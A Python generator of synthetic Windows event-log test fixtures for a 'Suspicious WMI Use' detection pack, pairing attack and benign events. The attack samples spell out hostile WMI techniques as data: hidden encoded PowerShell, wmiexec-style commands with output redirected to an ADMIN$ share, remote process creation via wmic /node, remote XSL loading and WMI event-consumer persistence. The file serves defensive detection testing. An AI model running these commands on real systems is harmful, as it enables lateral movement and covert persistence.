"""The events of the tests of the pack *Suspicious WMI Use*: ``python -m tests.packs.wmi_events``
writes them below the pack.

They are made up; names, ids and times are this file's own. How an event is laid out follows
Microsoft's and Sysmon's manifests: what the provider's template names, in its order.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from xml.sax.saxutils import escape

from escudo.content.starter_packs import find_starter_pack

_BEGIN = datetime(2026, 3, 17, 9, 20, tzinfo=UTC)
_NAMESPACE = uuid.UUID("0d6ad1e2-7a57-4a39-9f07-35c5a2f7c9d4")
_SYSTEM = "http://schemas.microsoft.com/win/2004/08/events/event"
_WMI = "http://manifests.microsoft.com/win/2006/windows/WMI"

HOST = "ws-117.northmoor.example"
SERVER = "app-02.northmoor.example"
USER = "NORTHMOOR\\k.hale"
SID = "S-1-5-21-1004336348-1177238915-682003330-1142"
WMIPRVSE = r"C:\Windows\System32\wbem\WmiPrvSE.exe"
EXPLORER = r"C:\Windows\explorer.exe"
WMIC = r"C:\Windows\System32\wbem\WMIC.exe"
CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


@dataclass(frozen=True, kw_only=True)
class Event:
    """An event: its provider and channel, and what its template names."""

    provider: str
    channel: str
    number: int
    data: Mapping[str, str]
    element: str | None = None
    """The element of the event's UserData; without one its data is EventData."""
    computer: str = HOST
    sid: str = "S-1-5-18"

    def render(self, place: int) -> str:
        """The event as a line of XML; those of one file are ten seconds apart."""
        time = _BEGIN + timedelta(seconds=10 * place)
        system = (
            f"<System><Provider Name='{self.provider}'/><EventID>{self.number}</EventID>"
            "<Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode>"
            "<Keywords>0x8000000000000000</Keywords>"
            f"<TimeCreated SystemTime='{time:%Y-%m-%dT%H:%M:%S.%fZ}'/>"
            f"<EventRecordID>{7000 + place}</EventRecordID><Correlation/>"
            f"<Execution ProcessID='3120' ThreadID='4408'/><Channel>{self.channel}</Channel>"
            f"<Computer>{self.computer}</Computer><Security UserID='{self.sid}'/></System>"
        )
        values = {
            n: v.replace("{time}", f"{time:%Y-%m-%d %H:%M:%S.000}") for n, v in self.data.items()
        }
        if self.element is None:
            fields = (f"<Data Name='{n}'>{escape(v)}</Data>" for n, v in values.items())
            body = f"<EventData>{''.join(fields)}</EventData>"
        else:
            fields = (f"<{n}>{escape(v)}</{n}>" for n, v in values.items())
            inner = f"<{self.element} xmlns='{_WMI}'>{''.join(fields)}</{self.element}>"
            body = f"<UserData>{inner}</UserData>"
        return f"<Event xmlns='{_SYSTEM}'>{system}{body}</Event>"


def guid(*parts: str) -> str:
    return f"{{{uuid.uuid5(_NAMESPACE, '|'.join(parts))}}}"


def process(
    image: str,
    line: str,
    parent: str,
    *,
    user: str = USER,
    original: str | None = None,
    computer: str = HOST,
) -> Event:
    """Sysmon's event 1."""
    name = image.rpartition("\\")[2]
    number = 4000 + 4 * (uuid.uuid5(_NAMESPACE, line).int % 900)
    return Event(
        provider="Microsoft-Windows-Sysmon",
        channel="Microsoft-Windows-Sysmon/Operational",
        number=1,
        computer=computer,
        data={
            "RuleName": "-",
            "UtcTime": "{time}",
            "ProcessGuid": guid("process", line),
            "ProcessId": str(number),
            "Image": image,
            "FileVersion": "10.0.19041.1",
            "Description": name,
            "Product": "Microsoft® Windows® Operating System",
            "Company": "Microsoft Corporation",
            "OriginalFileName": original or name,
            "CommandLine": line,
            "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": user,
            "LogonGuid": guid("logon", user),
            "LogonId": "0x5d1c2a",
            "TerminalSessionId": "0",
            "IntegrityLevel": "High",
            "Hashes": f"SHA256={uuid.uuid5(_NAMESPACE, image).hex.upper() * 2}",
            "ParentProcessGuid": guid("parent", parent),
            "ParentProcessId": "3384",
            "ParentImage": parent,
            "ParentCommandLine": f"{parent} -secured -Embedding" if parent == WMIPRVSE else parent,
            "ParentUser": "NT AUTHORITY\\NETWORK SERVICE" if parent == WMIPRVSE else user,
        },
    )


def wmi_event(number: int, **data: str) -> Event:
    """Sysmon's events 19 (filter), 20 (consumer) and 21 (binding)."""
    kinds = {19: "WmiFilterEvent", 20: "WmiConsumerEvent", 21: "WmiBindingEvent"}
    return Event(
        provider="Microsoft-Windows-Sysmon",
        channel="Microsoft-Windows-Sysmon/Operational",
        number=number,
        data={
            "RuleName": "-",
            "EventType": kinds[number],
            "UtcTime": "{time}",
            "Operation": "Created",
            "User": USER,
            **data,
        },
    )


def script(text: str) -> Event:
    """PowerShell's event 4104: a script block."""
    return Event(
        provider="Microsoft-Windows-PowerShell",
        channel="Microsoft-Windows-PowerShell/Operational",
        number=4104,
        sid=SID,
        data={
            "MessageNumber": "1",
            "MessageTotal": "1",
            "ScriptBlockText": text,
            "ScriptBlockId": guid("script", text).strip("{}"),
            "Path": "",
        },
    )


_ACTIVITY = {
    5857: "Operation_StartedOperational",
    5858: "Operation_ClientFailure",
    5860: "Operation_TemporaryEssStarted",
    5861: "Operation_ESStoConsumerBinding",
}


def activity(number: int, **data: str) -> Event:
    """An event of WMI's log of its own activity."""
    return Event(
        provider="Microsoft-Windows-WMI-Activity",
        channel="Microsoft-Windows-WMI-Activity/Operational",
        number=number,
        element=_ACTIVITY[number],
        data=data,
    )


def logon(session: str, address: str, *, kind: int = 3) -> Event:
    """The Security log's 4624."""
    return Event(
        provider="Microsoft-Windows-Security-Auditing",
        channel="Security",
        number=4624,
        computer=SERVER,
        data={
            "SubjectUserSid": "S-1-0-0",
            "SubjectUserName": "-",
            "SubjectDomainName": "-",
            "SubjectLogonId": "0x0",
            "TargetUserSid": SID,
            "TargetUserName": "k.hale",
            "TargetDomainName": "NORTHMOOR",
            "TargetLogonId": session,
            "LogonType": str(kind),
            "LogonProcessName": "Kerberos",
            "AuthenticationPackageName": "Kerberos",
            "WorkstationName": "-",
            "LogonGuid": guid("logon", session),
            "IpAddress": address,
            "IpPort": "51544",
        },
    )


def created(session: str, image: str, line: str, parent: str) -> Event:
    """The Security log's 4688."""
    return Event(
        provider="Microsoft-Windows-Security-Auditing",
        channel="Security",
        number=4688,
        computer=SERVER,
        data={
            "SubjectUserSid": "S-1-5-20",
            "SubjectUserName": "APP-02$",
            "SubjectDomainName": "NORTHMOOR",
            "SubjectLogonId": "0x3e4",
            "NewProcessId": "0x1a2c",
            "NewProcessName": image,
            "TokenElevationType": "%%1936",
            "ProcessId": "0xd38",
            "CommandLine": line,
            "TargetUserSid": SID,
            "TargetUserName": "k.hale",
            "TargetDomainName": "NORTHMOOR",
            "TargetLogonId": session,
            "ParentProcessName": parent,
            "MandatoryLabel": "S-1-16-12288",
        },
    )


def _consumer(kind: str, name: str) -> dict[str, str]:
    return {
        "Namespace": "//./root/subscription",
        "ESS": name,
        "CONSUMER": f'{kind}="{name}"',
        "PossibleCause": f'Binding EventFilter: instance of __EventFilter {{Name = "{name}";}};',
    }


FILTER = {"EventNamespace": '"root\\\\cimv2"', "Name": '"Refresh"'}
QUERY = (
    '"SELECT * FROM __InstanceModificationEvent WITHIN 60'
    " WHERE TargetInstance ISA 'Win32_LocalTime'\""
)
REMOTE = "cmd.exe /Q /c {} 1> \\\\127.0.0.1\\ADMIN$\\__1773739204.61 2>&1"

TESTS: Mapping[str, tuple[Sequence[Event], Sequence[Event]]] = {
    "wmi_provider_host_started_a_script_interpreter": (
        [
            process(CMD, "cmd.exe /c whoami /all", WMIPRVSE),
            process(POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgA", WMIPRVSE),
        ],
        [
            process(
                r"C:\Windows\Temp\A1F2\dismhost.exe",
                r"C:\Windows\Temp\A1F2\dismhost.exe {0B9C}",
                WMIPRVSE,
                user="NT AUTHORITY\\SYSTEM",
            ),
            process(r"C:\Windows\System32\msiexec.exe", "msiexec.exe /i agent.msi /qn", WMIPRVSE),
            process(CMD, "cmd.exe", EXPLORER),
        ],
    ),
    "wmi_command_with_output_to_an_admin_share": (
        [
            process(CMD, REMOTE.format("whoami"), WMIPRVSE),
            process(CMD, REMOTE.format("cd \\"), WMIPRVSE),
            process(CMD, REMOTE.format("net group /domain").replace("ADMIN$", "C$"), WMIPRVSE),
        ],
        [
            process(CMD, "cmd.exe /c ipconfig /all", WMIPRVSE),
            process(CMD, "cmd.exe /c dir > C:\\Temp\\list.txt 2>&1", WMIPRVSE),
            process(CMD, REMOTE.format("whoami /user"), EXPLORER),
        ],
    ),
    "wmic_created_a_process_on_this_host": (
        [
            process(WMIC, "wmic process call create notepad.exe", CMD, original="wmic.exe"),
            process(
                r"C:\Users\Public\svc.exe",
                'svc.exe PROCESS CALL CREATE "cmd /c start"',
                CMD,
                original="wmic.exe",
            ),
        ],
        [
            process(WMIC, "wmic process list brief", CMD, original="wmic.exe"),
            process(
                WMIC,
                'wmic /node:app-02 process call create "cmd /c hostname"',
                CMD,
                original="wmic.exe",
            ),
        ],
    ),
    "wmic_created_a_process_on_another_host": (
        [
            process(
                WMIC,
                'wmic /node:app-02 process call create "cmd /c ver"',
                CMD,
                original="wmic.exe",
            ),
            process(
                WMIC,
                'wmic /node:"10.20.4.9" /user:k.hale process call create "powershell -c 1"',
                CMD,
                original="wmic.exe",
            ),
        ],
        [
            process(WMIC, "wmic /node:app-02 os get caption", CMD, original="wmic.exe"),
            process(
                WMIC, "wmic /node:localhost process call create calc", CMD, original="wmic.exe"
            ),
            process(WMIC, "wmic process call create calc.exe", CMD, original="wmic.exe"),
        ],
    ),
    "wmic_ran_an_xsl_script": (
        [
            process(
                WMIC,
                'wmic os get /format:"https://cdn.northmoor.example/os.xsl"',
                CMD,
                original="wmic.exe",
            ),
            process(
                WMIC, r"wmic process list /format:C:\Users\Public\p.xsl", CMD, original="wmic.exe"
            ),
        ],
        [
            process(WMIC, "wmic os get caption /format:csv", CMD, original="wmic.exe"),
            process(WMIC, "wmic qfe list full /format:list", CMD, original="wmic.exe"),
        ],
    ),
    "powershell_created_a_process_through_wmi": (
        [
            script("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'"),
            script(
                "Invoke-CimMethod -ClassName Win32_Process -MethodName Create"
                " -Arguments @{CommandLine='cmd /c ver'}"
            ),
            script("([wmiclass]'\\\\.\\root\\cimv2:Win32_Process').Create('notepad.exe')"),
        ],
        [
            script("Get-CimInstance Win32_Process | Select-Object Name, CreationDate"),
            script("Get-WmiObject -Class Win32_Process -Filter \"Name='sqlservr.exe'\""),
            script("function New-Create { 'creates nothing' }"),
        ],
    ),
    "powershell_used_wmi_on_another_host": (
        [
            script("Invoke-WmiMethod -ComputerName app-02 -Class Win32_Service -Name StopService"),
            script("$s = New-CimSession -ComputerName app-02 -Credential $c"),
        ],
        [
            script("Invoke-CimMethod -ClassName Win32_Service -MethodName StopService"),
            script("Get-WmiObject Win32_OperatingSystem -ComputerName app-02"),
        ],
    ),
    "powershell_registered_a_wmi_event_consumer": (
        [
            script(
                "$c = Set-WmiInstance -Namespace root\\subscription"
                " -Class CommandLineEventConsumer -Arguments @{Name='Refresh'}"
            ),
            script(
                "New-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding"
                " -Property @{Filter=[Ref]$f; Consumer=[Ref]$c}"
            ),
        ],
        [
            script("Get-CimInstance -Namespace root/subscription CommandLineEventConsumer"),
            script(
                "Get-WmiObject -Namespace root\\subscription -Class __FilterToConsumerBinding"
                " | Remove-WmiObject"
            ),
        ],
    ),
    "wmi_event_consumer_runs_a_command_or_script": (
        [
            wmi_event(
                20,
                Name='"Refresh"',
                Type="Command Line",
                Destination='"C:\\\\Users\\\\Public\\\\r.exe"',
            ),
            wmi_event(20, Name='"Tidy"', Type="Script", Destination='"GetObject(\\"script:x\\")"'),
        ],
        [wmi_event(20, Name='"SCM Event Log Consumer"', Type="NT Event Log", Destination='"SCM"')],
    ),
    "wmi_event_subscription_completed_on_one_host": (
        [
            wmi_event(19, **FILTER, Query=QUERY),
            wmi_event(
                20, Name='"Refresh"', Type="Command Line", Destination='"C:\\\\Temp\\\\r.exe"'
            ),
            wmi_event(
                21,
                Consumer='"CommandLineEventConsumer.Name=\\"Refresh\\""',
                Filter='"__EventFilter.Name=\\"Refresh\\""',
            ),
        ],
        [
            wmi_event(19, **FILTER, Query=QUERY),
            wmi_event(
                20, Name='"Refresh"', Type="Command Line", Destination='"C:\\\\Temp\\\\r.exe"'
            ),
        ],
    ),
    "wmi_activity_log_shows_a_permanent_event_consumer": (
        [
            activity(5861, **_consumer("CommandLineEventConsumer", "Refresh")),
            activity(5861, **_consumer("ActiveScriptEventConsumer", "Tidy")),
        ],
        [
            activity(
                5861,
                **{
                    **_consumer("NTEventLogEventConsumer", "SCM Event Log Consumer"),
                    "ESS": "SCM Event Log Filter",
                },
            )
        ],
    ),
    "wmi_provider_loaded_from_an_unusual_folder": (
        [
            activity(
                5857,
                ProviderName="AssetProv",
                Code="0x0",
                HostProcess="wmiprvse.exe",
                ProcessID="5120",
                ProviderPath=r"C:\Users\Public\Libraries\assetprov.dll",
            )
        ],
        [
            activity(
                5857,
                ProviderName="CIMWin32",
                Code="0x0",
                HostProcess="wmiprvse.exe",
                ProcessID="3384",
                ProviderPath=r"%systemroot%\system32\wbem\cimwin32.dll",
            ),
            activity(
                5857,
                ProviderName="BackupProv",
                Code="0x0",
                HostProcess="wmiprvse.exe",
                ProcessID="3384",
                ProviderPath=r"C:\Program Files\Backup\wmi\prov.dll",
            ),
        ],
    ),
    "wmi_process_creation_refused_to_another_machine": (
        [
            activity(
                5858,
                Id=guid("call", "1"),
                ClientMachine="WS-044",
                User=USER,
                ClientProcessId="6044",
                Component="Unknown",
                Operation="Start IWbemServices::ExecMethod - root\\cimv2 : Win32_Process::Create",
                ResultCode="0x80041003",
                PossibleCause="Unknown",
            )
        ],
        [
            activity(
                5858,
                Id=guid("call", "2"),
                ClientMachine="WS-117",
                User=USER,
                ClientProcessId="6044",
                Component="Unknown",
                Operation="Start IWbemServices::ExecMethod - root\\cimv2 : Win32_Process::Create",
                ResultCode="0x80041002",
                PossibleCause="Unknown",
            ),
            activity(
                5858,
                Id=guid("call", "3"),
                ClientMachine="WS-044",
                User=USER,
                ClientProcessId="6044",
                Component="Unknown",
                Operation="Start IWbemServices::ExecQuery - root\\cimv2 : select * from Win32_BIOS",
                ResultCode="0x80041032",
                PossibleCause="Throttling Idle Tasks",
            ),
        ],
    ),
    "wmi_event_query_for_process_starts": (
        [
            activity(
                5860,
                NamespaceName="root\\cimv2",
                Query="SELECT * FROM Win32_ProcessStartTrace",
                User=USER,
                processid="7212",
                ClientMachine="WS-117",
                PossibleCause="Temporary",
            )
        ],
        [
            activity(
                5860,
                NamespaceName="root\\cimv2",
                Query="SELECT * FROM Win32_VolumeChangeEvent",
                User="NT AUTHORITY\\SYSTEM",
                processid="1188",
                ClientMachine="WS-117",
                PossibleCause="Temporary",
            )
        ],
    ),
    "wmi_created_a_process_after_a_network_logon": (
        [
            logon("0x7be4410", "10.20.4.31"),
            created("0x7be4410", CMD, "cmd.exe /Q /c hostname", WMIPRVSE),
        ],
        [
            logon("0x7be5522", "10.20.4.31"),
            logon("0x7be6633", "127.0.0.1", kind=2),
            created("0x7be6633", CMD, "cmd.exe", WMIPRVSE),
            logon("0x7be7744", "10.20.4.40"),
            created("0x7be7744", CMD, "cmd.exe", EXPLORER),
        ],
    ),
}
"""By the name of a detection's file: events that it must find, events that it must leave alone."""


def render(events: Iterable[Event]) -> str:
    """The text of a file of events."""
    return "".join(f"{event.render(place)}\n" for place, event in enumerate(events))


def list_files() -> Mapping[str, str]:
    """The path of each file below the pack, and its text."""
    return {
        f"tests/{name}/{kind}.xml": render(events)
        for name, both in TESTS.items()
        for kind, events in zip(("attack", "benign"), both, strict=True)
    }


def write_files(folder: Path) -> None:
    for name, text in list_files().items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")


if __name__ == "__main__":
    write_files(find_starter_pack("suspicious-wmi-use"))
